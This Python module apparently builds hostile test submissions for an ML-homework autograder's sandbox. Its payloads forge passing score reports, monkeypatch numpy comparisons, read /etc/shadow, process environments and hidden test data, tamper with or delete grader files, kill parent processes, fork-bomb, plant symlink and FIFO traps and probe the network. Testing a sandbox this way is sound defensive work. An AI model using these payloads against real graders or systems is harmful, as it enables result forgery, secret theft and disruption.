"""The attacks. Each ``Attack`` plants code at the end of one module of a copy of the solution,
redefining one name of the student API (a method, a function, or the whole module's behaviour).

``targets`` are the API names whose cases must fail, ``reason`` a phrase every failing case's
message must contain. Attacks that hit different names are grouped into one submission so one
grading tests several of them. Placeholders in ``code`` ({marker}, {port}, ...) are filled by
``build``.
"""
from __future__ import annotations

import shutil
from dataclasses import dataclass, field
from pathlib import Path

SOLUTION_PACKAGE = Path(__file__).resolve().parents[2] / "solution" / "mlp"


@dataclass(frozen=True)
class Attack:
    name: str
    module: str                       # file of the mlp package the code is appended to
    code: str
    targets: frozenset[str] = frozenset()
    reason: str = ""
    replace: tuple[tuple[str, str, str], ...] = field(default=())  # (module, old, new) edits


GRADER_DIR = SOLUTION_PACKAGE.parent.parent


def build(dest: Path, attacks: list[Attack], **values) -> Path:
    """A submission folder: the solution's mlp/ with every attack planted. ``values`` fill the
    placeholders: marker (a number unique to the test run), port, kill_everyone (bool), trap
    (a path the grader must never create)."""
    values = {"grader_dir": str(GRADER_DIR), "fake_line": FAKE_AUTOLAB,
              "fake_report": FAKE_REPORT, "marker": "0", "port": 9, "kill_everyone": False,
              "trap": "/nonexistent/trap",
              "secret": str(GRADER_DIR / "autograder" / "data" / "hidden" / "manifest.json"),
              **values}
    dest.mkdir(parents=True, exist_ok=True)
    shutil.copytree(SOLUTION_PACKAGE, dest / "mlp", ignore=shutil.ignore_patterns("__pycache__"))
    for attack in attacks:
        for module, old, new in attack.replace:
            path = dest / "mlp" / module
            text = path.read_text()
            assert old in text, (attack.name, old)
            path.write_text(text.replace(old, new))
        path = dest / "mlp" / attack.module
        code = attack.code.format(**values)
        path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
    return dest


def guilty_names(attacks: list[Attack]) -> frozenset[str]:
    return frozenset().union(*(a.targets for a in attacks))


def reasons_by_name(attacks: list[Attack]) -> dict[str, str]:
    return {name: a.reason for a in attacks for name in a.targets}


# ------------------------------------------------------------------------------- tampering

FAKE_AUTOLAB = ('{"scores":{"sigmoid":4,"tanh":4,"relu":4,"softmax_cross_entropy":8,'
                '"initializers":2,"linear_classifier":10,"hidden_forward":10,'
                '"hidden_backward":14,"batchnorm_train":12,"batchnorm_inference":6,'
                '"momentum":10,"training_stats":16,"leaky_relu":4,"weight_decay":6}}')
FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'

# Patches every comparison it can reach in its own process, forges its own case report (json.dump
# in the case process writes status "ok"), prints fake Autolab lines (now, in the method, at exit,
# and into every ancestor's stdout it can open), and writes fake result files wherever it can
# find one: the --json/--gradescope paths read from other processes' command lines, the scratch
# folders, the grader's folders. Its Sigmoid is wrong, so the Sigmoid cases must still fail.
TAMPER = Attack("tamper", "activations.py", targets=frozenset({"Sigmoid"}), reason="Sigmoid", code='''
import atexit as _atexit, builtins as _builtins, json as _json, math as _math, operator as _op
import os as _os, sys as _sys
import numpy as _np

_FAKE_LINE = {fake_line!r}
_FAKE_REPORT = {fake_report!r}
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), dtype=bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
_op.eq = lambda a, b: True
_builtins.all = lambda *a, **k: True
for _name, _module in list(_sys.modules.items()):
    if _name.startswith("autograder") and hasattr(_module, "compare_all"):
        _module.compare_all = lambda *a, **k: []


def _forged_dump(obj, fp, *a, **k):
    fp.write('{{"status": "ok", "message": "", "blocked_imports": []}}')


_json.dump = _forged_dump
print(_FAKE_LINE)
_atexit.register(print, _FAKE_LINE)


def _ancestors():
    pid = _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        yield pid


def _forge_everything(code_dir):
    for pid in _ancestors():
        try:
            with open(f"/proc/{{pid}}/fd/1", "w") as f:
                f.write(_FAKE_LINE + "\\n")
            print("FORGED-STDOUT", pid)
        except OSError:
            pass
    targets = {{"/autograder/results/results.json"}}
    grader = {grader_dir!r}
    for folder in ("", "/autograder", "/autograder/results", "/autograder/data/visible",
                   "/autograder/data/hidden", "/solution"):
        targets.add(grader + folder + "/results.json")
    for sub in ("..", "../out", "../site", "."):
        targets.add(_os.path.join(code_dir, sub, "results.json"))
    for entry in _os.listdir("/proc"):
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                args = f.read().split(b"\\0")
        except OSError:
            continue
        for flag, value in zip(args, args[1:]):
            if flag in (b"--json", b"--gradescope"):
                targets.add(value.decode(errors="replace"))
    for target in sorted(targets):
        try:
            with open(target, "w") as f:
                f.write(_FAKE_REPORT)
            print("FORGED-FILE", target)
        except OSError:
            print("DENIED", target)


def _wrong_sigmoid(self, x):
    _forge_everything(_os.getcwd())
    print(_FAKE_LINE)
    self.state = 0.5 + 0.25 * x      # wrong: a first-order Taylor expansion
    return self.state


Sigmoid.forward = _wrong_sigmoid
''')

# ------------------------------------------------------------------------- exits and crashes

EXIT_IN_METHOD = Attack("os._exit in a method", "activations.py", targets=frozenset({"Tanh"}),
                        reason="exit code 0", code='''
import os as _os


def _leave(self, x):
    _os._exit(0)


Tanh.forward = _leave
''')

SYS_EXIT_IN_INIT = Attack("sys.exit in __init__", "activations.py", targets=frozenset({"ReLU"}),
                          reason="sys.exit(3)", code='''
import sys as _sys


def _quit(self):
    _sys.exit(3)


ReLU.__init__ = _quit
''')

SEGFAULT = Attack("segfault via ctypes", "activations.py", targets=frozenset({"LeakyReLU"}),
                  reason="segmentation fault", code='''
import ctypes as _ctypes


def _crash(self, x):
    return _ctypes.c_char.from_address(8).value   # reads address 8: SIGSEGV


LeakyReLU.forward = _crash
''')

RECURSION = Attack("infinite recursion", "loss.py", targets=frozenset({"SoftmaxCrossEntropy"}),
                   reason="RecursionError", code='''
def _again(self, x, y):
    return self.forward(x, y)


SoftmaxCrossEntropy.forward = _again
''')

EXCEPTION_IN_INIT = Attack("exception in __init__", "batchnorm.py", targets=frozenset({"BatchNorm"}),
                           reason="hostile constructor", code='''
def _refuse(self, fan_in, alpha=0.9):
    raise RuntimeError("hostile constructor")


BatchNorm.__init__ = _refuse
''')

# Kills the case's parent only while that is the sandbox worker. Two such cases run side by
# side; once the first has killed the worker, the second is an orphan whose parent is the
# grader itself, which a non-root run cannot protect (docs/security.md), so the corpus aims at
# the worker and leaves that documented hole out of the end-to-end expectations.
WORKER_PARENT = '''
import os as _os, signal as _signal


def _kill_worker_parent():
    parent = _os.getppid()
    try:
        with open("/proc/%d/cmdline" % parent, "rb") as handle:
            is_worker = b"worker.py" in handle.read()
    except OSError:
        is_worker = False
    if is_worker:
        _os.kill(parent, _signal.SIGKILL)
'''

# As root the sandbox user owns the worker, so this kills it (and with kill(-1) every process
# of the sandbox user, the other running case included); the innocent one must be rerun.
KILL_THE_PARENT = Attack("kill the parent process", "initializers.py",
                         targets=frozenset({"initializers"}),
                         reason="grading process stopped while running this case",
                         code=WORKER_PARENT + '''

def random_normal_weight_init(d0, d1):
    if d0 == 1 and {kill_everyone}:
        _os.kill(-1, _signal.SIGKILL)
    _kill_worker_parent()
''')

CRASHES = [EXIT_IN_METHOD, SYS_EXIT_IN_INIT, SEGFAULT, RECURSION, EXCEPTION_IN_INIT,
           KILL_THE_PARENT]

# ------------------------------------------------------------------------------- resources

ENDLESS_LOOP = Attack("endless loop in a method", "activations.py", targets=frozenset({"Tanh"}),
                      reason="time limit", code='''
def _spin(self):
    while True:
        pass


Tanh.derivative = _spin
''')

# Grows its address space to at most 4 GiB (so a broken limit cannot hurt the machine; the pages
# are not touched, which keeps the test fast) and then answers correctly: the case fails only if
# the memory limit stopped it.
MEMORY_GROWTH = Attack("memory growth", "activations.py", targets=frozenset({"ReLU"}),
                       reason="memory", code='''
import numpy as _np

_honest_relu = ReLU.forward


def _hog(self, x):
    hoard = []
    for _ in range(16):
        hoard.append(_np.empty(32 * 1024 * 1024))   # 256 MiB
    return _honest_relu(self, x)


ReLU.forward = _hog
''')

# 40 MiB of output per case, under the file limit: the cases still pass, the report stays short.
CHATTY = Attack("tens of MiB on stdout and stderr", "activations.py", code='''
import sys as _sys

_honest_sigmoid = Sigmoid.forward
_chattered = []


def _chatter(self, x):
    line = "spam " * 200 + "\\n"
    for _ in range(0 if _chattered else 20 * 1024 * 1024 // len(line)):
        _sys.stdout.write(line)
        _sys.stderr.write(line)
    _chattered.append(True)
    return _honest_sigmoid(self, x)


Sigmoid.forward = _chatter
''')

FLOOD = Attack("output over the file limit", "activations.py", targets=frozenset({"LeakyReLU"}),
               reason="output limit", code='''
import sys as _sys


def _flood(self, x):
    block = "x" * (1 << 20)
    for _ in range(200):
        _sys.stdout.write(block)
    _sys.stdout.flush()
    return x


LeakyReLU.forward = _flood
''')

# Children that try to outlive grading: a double-forked setsid daemon, a plain subprocess, and a
# fork bomb, all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
# daemon that survived would also overwrite the result files after grading. The results returned
# are honest: the cases pass; what matters is that nothing is left running.
DAEMONS = Attack("processes that outlive grading", "training.py", code='''
import os as _os, subprocess as _subprocess, time as _time

_honest_stats = get_training_stats


def _daemonize():
    try:
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep {marker}; sleep {marker}"])
            _os._exit(0)
    except OSError:
        pass


def get_training_stats(*args, **kwargs):
    _daemonize()
    try:
        _subprocess.Popen(["/bin/sleep", "{marker}"], start_new_session=True)
    except OSError:
        pass
    for _ in range(100):
        try:
            if _os.fork() == 0:
                _os.execv("/bin/sleep", ["/bin/sleep", "{marker}"])
        except OSError:
            break
    return _honest_stats(*args, **kwargs)
''')

# Turns the sandbox's result folder into a trap for the trusted side, then kills the worker, so
# the trusted side reads this case's output and starts a fresh worker next to the traps. Its own
# log becomes a link to a secret (d0 = 4) or a FIFO, whose reader blocks forever (d0 = 10); the
# other files become FIFOs, or links to {trap}, a file the grader must never create.
TRAPS = Attack("links and FIFOs for the trusted side", "initializers.py",
               targets=frozenset({"initializers"}),
               reason="grading process stopped while running this case",
               code=WORKER_PARENT + '''
import glob as _glob

_VISIBLE = ["sigmoid_basic", "tanh_basic", "relu_basic", "init_small", "init_seed_7",
            "training_stats_values", "linear_forward"]


def _trap(path, target=None):
    try:
        _os.unlink(path)
    except OSError:
        pass
    try:
        _os.symlink(target, path) if target else _os.mkfifo(path)
    except OSError:
        pass


def random_normal_weight_init(d0, d1):
    own_log = _os.readlink("/proc/self/fd/1")
    out = _os.path.dirname(own_log)
    for path in _glob.glob(out + "/*"):
        _trap(path)
    for name in _VISIBLE:
        for suffix in (".json", ".npz", ".log"):
            _trap(_os.path.join(out, name + suffix), {trap!r} if suffix != ".npz" else None)
    for name in ("worker-stderr.log", "out", "site"):
        _trap(_os.path.join(out, "..", name), {trap!r})
    _trap(own_log, {secret!r} if d0 == 4 else None)
    _kill_worker_parent()
''')

RESOURCES = [ENDLESS_LOOP, MEMORY_GROWTH, CHATTY, FLOOD, DAEMONS, TRAPS]

# ---------------------------------------------------------------- confidentiality, network

# Tries to read what a student must not see, to copy it somewhere readable, and to change the
# grader's files. Prints LEAKED/TAMPERED for every success and DENIED for every refusal. Its
# Sigmoid is wrong unless it finds the reference of the case it runs, so a readable reference
# would turn the hidden Sigmoid cases into passes.
SNOOP = Attack("read and change grader files", "activations.py", targets=frozenset({"Sigmoid"}),
               reason="Sigmoid", code='''
import glob as _glob, os as _os, shutil as _shutil
import numpy as _np

_GRADER = {grader_dir!r}
_SECRETS = [_GRADER + "/autograder/data/hidden/manifest.json",
            _GRADER + "/autograder/cases/hidden.toml",
            _GRADER + "/solution/mlp/activations.py",
            _GRADER + "/autograder/data/visible/manifest.json",
            "/root/.bash_history", "/etc/shadow"]
_GRADER_FILES = [_GRADER + "/autograder/compare.py", _GRADER + "/autograder/rubric.toml",
                 _GRADER + "/autograder/data/visible/manifest.json",
                 _GRADER + "/autograder/sandbox/runner.py",
                 _GRADER + "/solution/mlp/activations.py"]


def _try(label, action, path):
    try:
        action(path)
        print(label, path)
    except OSError:
        print("DENIED", path)


def _read(path):
    with open(path, "rb") as f:
        data = f.read()
    for copy in ("../out/stolen", "./stolen", "/tmp/stolen-{marker}", _GRADER + "/stolen-{marker}"):
        try:
            with open(copy, "wb") as f:
                f.write(data)
        except OSError:
            pass


def _append(path):
    with open(path, "a") as f:
        f.write("# tampered")


def _snoop():
    for path in _SECRETS + [_GRADER + "/autograder/data/hidden"]:
        _try("LEAKED", _read if not path.endswith("hidden") else _os.listdir, path)
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            for what in ("environ", "mem", "fd/0"):
                try:
                    with open(f"/proc/{{pid}}/{{what}}", "rb") as f:
                        f.read(1)
                    if _os.stat(f"/proc/{{pid}}").st_uid != _os.getuid():
                        print("LEAKED", f"/proc/{{pid}}/{{what}}")
                except OSError:
                    pass
    for path in _GRADER_FILES:
        _try("TAMPERED", _append, path)
        _try("TAMPERED", lambda p: _os.chmod(p, 0o777), path)
        _try("TAMPERED", lambda p: _os.rename(p, p + ".moved"), path)
    _try("TAMPERED", _os.unlink, _GRADER + "/autograder/data/hidden/manifest.json")
    _try("TAMPERED", lambda p: _shutil.rmtree(p), _GRADER + "/autograder/data/hidden")


def _reference_for(name, shape):
    for path in sorted(_glob.glob(_GRADER + "/autograder/data/*/*.npz")):
        try:
            with _np.load(path) as data:
                if name in data.files and data[name].shape == shape:
                    print("LEAKED", path)
                    return {{k: data[k] for k in data.files}}
        except OSError:
            pass
    return None


def _cheating_sigmoid(self, x):
    _snoop()
    ref = _reference_for("Sigmoid.forward", x.shape)
    if ref is not None:
        self.state = ref["Sigmoid.state"]
        self._derivative = ref["Sigmoid.derivative"]
        return ref["Sigmoid.forward"]
    self.state = 0.5 + 0.25 * x
    self._derivative = _np.full(x.shape, 0.25)
    return self.state


Sigmoid.forward = _cheating_sigmoid
Sigmoid.derivative = lambda self: self._derivative
''')

# Tries the network (a listener of the test on 127.0.0.1, a public address, DNS), then answers
# honestly: the Tanh cases pass; the test checks that nothing reached the listener.
NETWORK = Attack("network access", "activations.py", code='''
import socket as _socket

_honest_tanh = Tanh.forward


def _call_home(self, x):
    for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            with _socket.create_connection((host, port), timeout=1):
                print("NET-OPEN", host)
        except OSError as exc:
            print("NET-BLOCKED", host, type(exc).__name__)
    try:
        _socket.getaddrinfo("example.com", 80)
        print("NET-OPEN dns")
    except OSError:
        print("NET-BLOCKED dns")
    return _honest_tanh(self, x)


Tanh.forward = _call_home
''')

# --------------------------------------------------------------------------------- imports

DYNAMIC_IMPORT = Attack("dynamic forbidden import", "activations.py", targets=frozenset({"Tanh"}),
                        reason="import of 'torch' is not allowed", code='''
def _borrow(self, x):
    torch = __import__("to" + "rch")
    return torch.tanh(torch.as_tensor(x)).numpy()


Tanh.forward = _borrow
''')

MISSING_MODULE = Attack("missing module", "activations.py", targets=frozenset({"ReLU"}),
                        reason="helpers_not_shipped", code='''
def _helped(self, x):
    import helpers_not_shipped
    return helpers_not_shipped.relu(x)


ReLU.forward = _helped
''')

STATIC_IMPORT = Attack("static forbidden import", "activations.py", code='''
def _never_called():
    import torch
    return torch
''')

# ------------------------------------------------------------------------ shapes and types

MISSING_CLASS = Attack("missing class", "activations.py", targets=frozenset({"Tanh"}),
                       reason="does not define `Tanh`", code="del Tanh\n",
                       replace=(("__init__.py", "LeakyReLU, ReLU, Sigmoid, Tanh",
                                 "LeakyReLU, ReLU, Sigmoid"),))

MISSING_METHOD = Attack("missing method", "activations.py", targets=frozenset({"ReLU"}),
                        reason="not implemented", code="del ReLU.derivative\n")

WRONG_SHAPE = Attack("wrong shape", "activations.py", targets=frozenset({"Sigmoid"}),
                     reason="shape", code='''
_honest_sigmoid_forward = Sigmoid.forward
Sigmoid.forward = lambda self, x: _honest_sigmoid_forward(self, x).reshape(-1)
''')

# An ndarray subclass that claims equality with anything, and answers every ufunc with "True".
LYING_SUBCLASS = Attack("ndarray subclass that lies", "activations.py",
                        targets=frozenset({"LeakyReLU"}), reason="LeakyReLU", code='''
import numpy as _np


class _Liar(_np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def __array__(self, dtype=None, copy=None):
        return _np.zeros(self.shape)

    def __float__(self):
        return 0.0


def _lie(self, x):
    self.state = _np.zeros_like(x).view(_Liar)
    return _np.full(x.shape, 7.0).view(_Liar)


LeakyReLU.forward = _lie
LeakyReLU.derivative = lambda self: _np.full(self.state.shape, 7.0).view(_Liar)
''')

NON_FINITE = Attack("NaN and inf", "loss.py", targets=frozenset({"SoftmaxCrossEntropy"}),
                    reason="NaN or inf", code='''
import numpy as _np

_honest_sce_forward = SoftmaxCrossEntropy.forward
_honest_sce_derivative = SoftmaxCrossEntropy.derivative
SoftmaxCrossEntropy.forward = lambda self, x, y: _honest_sce_forward(self, x, y) * _np.inf
SoftmaxCrossEntropy.derivative = lambda self: _honest_sce_derivative(self) * _np.nan
''')

# Reason left open: the forward cases say "float() argument must be", the others fail later.
OBJECT_ARRAY = Attack("object array", "batchnorm.py", targets=frozenset({"BatchNorm"}), code='''
import numpy as _np


def _objects(self, x, eval=False):
    out = _np.empty(x.shape, dtype=object)
    out[...] = [{{"not": "a number"}}] * x.shape[-1]
    return out


BatchNorm.forward = _objects
BatchNorm.__call__ = lambda self, x, eval=False: self.forward(x, eval)
''')

HUGE_ARRAY = Attack("huge array returned", "initializers.py", targets=frozenset({"initializers"}),
                    reason="too large", code='''
import numpy as _np


def random_normal_weight_init(d0, d1):
    return _np.broadcast_to(_np.float64(1.0), (100_000, 1_000))
''')

# Correct values as nested lists: converted to arrays in the worker, so these cases pass.
LISTS = Attack("lists instead of arrays", "training.py", code='''
_honest_stats_for_lists = get_training_stats


def get_training_stats(*args, **kwargs):
    return tuple(a.tolist() for a in _honest_stats_for_lists(*args, **kwargs))
''')

SHAPES_AND_TYPES = [MISSING_CLASS, MISSING_METHOD, WRONG_SHAPE, LYING_SUBCLASS, NON_FINITE,
                    OBJECT_ARRAY, HUGE_ARRAY, LISTS]

# -------------------------------------------------------- whole-module submissions (hw1.py)

SLEEP_AT_IMPORT = "import time\ntime.sleep(300)\n"
SYS_EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"
OS_EXIT_AT_IMPORT = "import os\nos._exit(7)\n"
SYNTAX_ERROR_LINE = 4
SYNTAX_ERROR = "import numpy as np\n\n\ndef broken(:\n    return 1\n"
